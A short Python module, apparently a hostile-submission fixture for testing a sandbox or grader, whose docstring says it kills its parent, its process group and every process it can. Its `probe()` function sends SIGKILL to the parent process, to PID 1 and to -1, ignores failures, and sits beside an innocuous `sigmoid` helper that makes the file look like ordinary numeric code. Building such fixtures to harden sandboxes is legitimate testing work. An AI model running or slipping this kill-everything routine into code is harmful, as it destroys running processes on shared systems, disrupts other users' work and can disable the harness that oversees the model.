"""Kills its parent, its process group and every process it can."""

import os
import signal

import numpy as np


def probe():
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return "still here"


def sigmoid(z):
    return 1 / (1 + np.exp(-z))
